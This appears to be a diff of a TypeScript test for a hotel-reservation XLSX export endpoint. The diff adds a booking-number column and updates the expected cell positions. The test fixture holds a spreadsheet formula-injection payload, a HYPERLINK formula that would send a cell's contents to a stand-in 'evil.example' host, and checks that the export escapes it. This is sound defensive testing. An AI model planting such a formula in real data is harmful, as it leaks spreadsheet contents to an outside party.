@@ -14,6 +14,7 @@ import { Reservation } from './reservation.entity';
 let app: TestApp;
 let tokens: { a: string; b: string; c: string };
 let reservationId: number;
+let bookingNumber: string;
 const PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
 const period = `from=${todayInSeoul()}&to=${addDays(todayInSeoul(), 30)}`;
 
@@ -28,6 +29,7 @@ beforeAll(async () => {
   const s = await bookingScenario(app, { basePrice: 80_000, unitCount: 2 }, { manager: a!, name: '-마이너스 호텔' });
   const guest = await book(app, s.body(3, 1, { phone: '01012345678', guestName: '박비회' }));
   reservationId = guest.prepared.reservationId;
+  bookingNumber = guest.prepared.bookingNumber;
   // The name as an older client or an import may have stored it (today's form allows letters only).
   await app.orm.em.fork().nativeUpdate(Reservation, { id: reservationId }, { guestName: PAYLOAD });
 });
@@ -49,7 +51,8 @@ describe('GET /api/manager/reservations/export.xlsx', () => {
     const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({
-      예약번호: reservationId,
+      예약번호: bookingNumber,
+      '예약 ID': reservationId,
       '회원 구분': '비회원',
       예약자: `'${PAYLOAD}`,
       연락처: '01012345678',
@@ -59,10 +62,11 @@ describe('GET /api/manager/reservations/export.xlsx', () => {
       '환불 금액(원)': 0,
       '예약 일시': expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/),
     });
-    const guestCell = sheet['D2'] as XLSX.CellObject;
+    const guestCell = sheet['E2'] as XLSX.CellObject;
     expect(guestCell).toMatchObject({ t: 's', v: `'${PAYLOAD}` });
     expect(guestCell.f).toBeUndefined();
-    expect(sheet['A2']).toMatchObject({ t: 'n', v: reservationId });
+    expect(sheet['A2']).toMatchObject({ t: 's', v: bookingNumber });
+    expect(sheet['B2']).toMatchObject({ t: 'n', v: reservationId });
   });
 
   it('admits one export per user and two per process; beyond, 429 with Retry-After; /readyz answers meanwhile', async () => {
